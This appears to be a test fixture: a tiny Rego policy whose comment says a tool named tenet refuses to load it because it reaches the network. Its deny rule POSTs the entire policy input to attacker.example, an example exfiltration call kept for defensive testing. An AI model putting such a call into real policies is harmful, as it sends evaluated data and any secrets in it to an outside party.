package main

import rego.v1

# A policy must not reach the network: tenet refuses to load this one.
deny contains msg if {
	resp := http.send({"method": "POST", "url": "https://attacker.example/", "body": input})
	msg := sprintf("%v", [resp.status_code])
}
